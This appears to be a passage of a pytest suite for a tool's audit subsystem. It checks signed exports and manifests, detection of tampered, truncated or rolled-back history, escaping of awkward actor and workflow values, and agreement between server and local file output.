    arguments = ("audit", "export", "--format", form, "--first", "3", "--key", "audit.key")
    assert restpoint(*arguments).returncode == 2, "a signature needs a manifest"
    assert restpoint(*arguments, "--out", name).returncode == 0
    assert restpoint(*arguments, "--out", name).returncode == 5, "no evidence is written over"
    taken, manifest = tmp_path / name, tmp_path / f"{name}.manifest.json"
    assert [each.stat().st_mode & 0o777 for each in (taken, manifest)] == [0o600, 0o600]
    assert restpoint("audit", "export", "-f", form, "--first", "3").stdout.encode() == taken.read_bytes()
    check = ("audit", "verify", "--export", name, "--public-key", "audit.key.pub")
    assert restpoint(*check).returncode == 0
    data, stated = taken.read_bytes(), manifest.read_text()
    for place in (0, len(data) // 3, len(data) - 4):
        taken.write_bytes(data[:place] + bytes([data[place] ^ 4]) + data[place + 1 :])
        assert restpoint(*check).returncode == 1
    taken.write_bytes(data[: data.rindex(b"\n", 0, -1) + 1])
    assert restpoint(*check).returncode == 1, "the end is missing"
    taken.write_bytes(data)
    manifest.write_text(stated.replace('"first": 3', '"first": 2'))
    assert restpoint(*check).returncode == 1
    manifest.write_text("no manifest")
    assert restpoint(*check).returncode == 5
    manifest.unlink()
    assert restpoint(*check).returncode == 2, "a signature stands in a manifest"
    bare = restpoint("audit", "verify", "--export", name).returncode
    assert bare == (0 if form == "jsonl" else 2), "lines can be followed without one, other than from the first"


async def test_an_export_has_every_row_and_every_value_as_it_is_in_the_file(
    store: ExecutionStore, path: Path, clock: ManualClock
) -> None:
    _, response = PAIRS[0]
    record = await store.create_execution(workflow='a "quoted", name\nof two lines', owner="", actor="Zoë, ☃")
    pending = await store.set_interaction_required(record.execution_id, HumanPromptText(text='{"detail":null}\u2028é'))
    await store.resolve_interaction(record.execution_id, pending.interaction_id, response, actor='x","detail":7')
    every = rows(path, "SELECT sequence, actor, cause, detail, hex(digest) FROM history ORDER BY sequence")
    lines = [json.loads(line) for line in exported(path).split(b"\n")[:-1]]
    assert [(line["sequence"], line["actor"], line["cause"]) for line in lines] == [row[:3] for row in every]
    assert [line["detail"] for line in lines] == [json.loads(row[3]) for row in every]
    with reading(path) as connection:
        export = exports.Export(connection, exports.span(connection), "jsonl")
        data = b"".join(export)
        manifest = export.manifest()
    assert exports.check_export(data.splitlines(keepends=True), manifest, None) == []
    found = list(csv.reader(io.StringIO(exported(path, "csv").decode(), newline="")))
    assert found[0] == list(exports.COLUMNS)
    assert [(row[8], row[12]) for row in found[1:]] == [(row[1] or "", row[3] or "") for row in every]


async def test_an_erased_detail_is_accepted_where_an_event_names_it(store: ExecutionStore, path: Path) -> None:
    ids = await asked(store)
    await store.resolve_interaction(*ids, SURE, actor="joan")
    with unguarded(path) as connection:
        connection.execute("UPDATE history SET detail = NULL WHERE sequence = 3")
    assert [finding.problem for finding in verdict(path).findings] == ["detail_missing"]
    detail = '{"sequences":[3]}'
    await file_of(store).database.write(
        lambda tx: history.append(tx, EventKind.PAYLOADS_ERASED, actor="op", detail=detail)
    )
    found = verdict(path)
    assert (found.holds, found.erased) == (True, 1)
    line = json.loads(exported(path, first=3, last=3))
    assert (line["detail"], len(line["detail_sha256"])) == (None, 64)


async def test_the_history_tells_of_rotated_keys_and_what_was_done_to_the_file(
    store: ExecutionStore, path: Path
) -> None:
    await file_of(store).database.write(
        lambda tx: history.keys_rotated(tx, current="k2", retired=["k1"], resealed=3, actor="op")
    )
    (row,) = told(path, "file_changes")
    assert (row["event"], row["actor"], json.loads(row["detail"])) == (
        "keys_rotated", "op", {"current": "k2", "retired": ["k1"], "resealed": 3},
    )  # fmt: skip


def test_an_empty_history_holds_and_has_nothing_to_export(fresh: Path) -> None:
    found = verdict(fresh)
    assert (found.holds, found.rows, str(found.head)) == (True, 0, f"0:{'0' * 64}")
    with pytest.raises(NothingToExport):
        exported(fresh)


async def test_a_verification_that_does_not_name_every_difference_says_so(
    store: ExecutionStore, path: Path, restpoint: Command
) -> None:
    for _ in range(6):
        await store.create_execution(owner="ada")
    with unguarded(path) as connection:
        connection.execute("UPDATE executions SET owner = 'eve' WHERE key <= 4")
    four = restpoint("audit", "verify")
    assert four.stdout.count("WRONG") == 4
    assert "there may be more" not in four.stdout
    assert json.loads(restpoint("audit", "verify", "-o", "json").stdout)["may_have_more"] is False
    with sql(path) as connection:
        connection.execute("UPDATE executions SET owner = 'eve'")
    six = restpoint("audit", "verify")
    assert six.stdout.count("WRONG") == 5
    assert "there may be more" in six.stdout
    assert json.loads(restpoint("audit", "verify", "-o", "json").stdout)["may_have_more"] is True


async def test_a_head_that_retention_has_passed_hides_no_change_of_the_tables(
    path: Path, fresh: Path, clock: ManualClock
) -> None:
    shutil.copyfile(fresh, path)
    async with ExecutionStore(database=path, clock=clock, history_retention_seconds=50) as store:
        for _ in range(3):
            await store.set_completed((await store.create_execution()).execution_id, None)
        clock.step(1_000)
        await store.cleanup_expired()
        await store.create_execution(owner="ada")
    gone = Head(1, b"of a row that retention removed")
    assert [finding.problem for finding in verdict(path, gone).findings] == ["head_pruned"]
    with unguarded(path) as connection:
        connection.execute("UPDATE executions SET owner = 'eve'")
    assert [finding.problem for finding in verdict(path).findings] == ["payload_differs"]
    assert [finding.problem for finding in verdict(path, gone).findings] == ["head_pruned", "payload_differs"]


def test_a_file_without_a_row_is_no_export(path: Path, restpoint: Command) -> None:
    empty = path.with_name("empty.jsonl")
    empty.touch()
    ran = restpoint("audit", "verify", "--export", str(empty))
    assert (ran.returncode, ran.stdout) == (1, "WRONG  It is empty.\n")


async def test_a_hole_before_an_export_is_no_silent_start(
    store: ExecutionStore, path: Path, clock: ManualClock
) -> None:
    await a_busy_week(store, clock)
    with unguarded(path) as connection:
        connection.execute("DELETE FROM history WHERE sequence = 4")
    with pytest.raises(DamagedFile, match="Row 4"):
        exported(path, first=5)


@pytest.mark.parametrize(
    ("content", "error"),
    [("nothing of the kind", InvalidArgument), (None, UnusableFile)],
)
def test_a_key_that_is_none_is_told(tmp_path: Path, content: str | None, error: type[Exception]) -> None:
    file = tmp_path / "key"
    if content is not None:
        file.write_text(content)
        file.chmod(0o600)
    for read in (signing.SigningKey.read, signing.VerifyingKey.read):
        with pytest.raises(error):
            read(file)


async def test_an_older_copy_that_was_put_back_is_found_by_a_head_alone(
    store: ExecutionStore, path: Path, tmp_path: Path, clock: ManualClock
) -> None:
    await asked(store)
    older = tmp_path / "older.db"
    with sql(path) as connection:
        connection.execute("VACUUM INTO ?", (str(older),))
    await a_busy_week(store, clock)
    with reading(path) as connection:
        head = read_head(connection)
    assert verdict(older).holds, "nothing in the file can tell"
    (finding,) = verdict(older, head).findings
    assert (finding.problem, finding.sequence) == ("tail_missing", 3)


async def test_a_server_tells_auditors_what_the_file_does(fresh: Path, tmp_path: Path, clock: ManualClock) -> None:
    path = tmp_path / "restpoint.db"
    shutil.copyfile(fresh, path)
    async with ExecutionStore(None, database=path, clock=clock) as store:
        await a_busy_week(store, clock)
    (tmp_path / "target.py").write_text(TARGET)
    await asyncio.to_thread(compare_server_and_file, tmp_path, rows(path, "SELECT execution_id FROM history")[0][0])


def compare_server_and_file(folder: Path, execution_id: str) -> None:
    with served("target.py", folder, "--ttl", "never") as server:
        for arguments in (
            ("query", "--actor", "op", "-o", "jsonl"),
            (
                "query",
                "--from",
                "2027-01-15T08:01:00Z",
                "--to",
                "2027-01-15",
                "--after",
                "2",
                "--limit",
                "3",
                "-o",
                "json",
            ),
            ("report", "-o", "json"),
            ("report", "approvals", "--workflow", "refund"),
            ("timeline", execution_id),
            ("timeline", execution_id[-8:]),
            ("head",),
        ):
            here, there = (
                typed("audit", *arguments, cwd=folder, **variables) for variables in ({}, {"RESTPOINT_URL": server.url})
            )
            assert (here.returncode, there.returncode) == (0, 0), there.stderr
            assert here.stdout == there.stdout != ""
        export = ("audit", "export", "--from", "2027-01-15", "--first", "3", "--out")
        assert typed(*export, "here.jsonl", cwd=folder).returncode == 0
        assert typed(*export, "there.jsonl", "--url", server.url, cwd=folder).returncode == 0
        for name in ("{}.jsonl", "{}.jsonl.manifest.json"):
            assert (folder / name.format("here")).read_bytes() == (folder / name.format("there")).read_bytes()
        assert typed("audit", "timeline", "nothing", "--url", server.url, cwd=folder).returncode == 3
        assert typed("audit", "export", "--first", "999", "--url", server.url, cwd=folder).returncode == 3
        assert typed("audit", "report", "all", "--url", server.url, cwd=folder).returncode == 2
        ran = typed("audit", "head", "--key", "none", "--url", server.url, cwd=folder)
        assert (ran.returncode, "its own key" in ran.stderr) == (2, True)
    assert typed("audit", "head", "--url", server.url, cwd=folder).returncode == 5
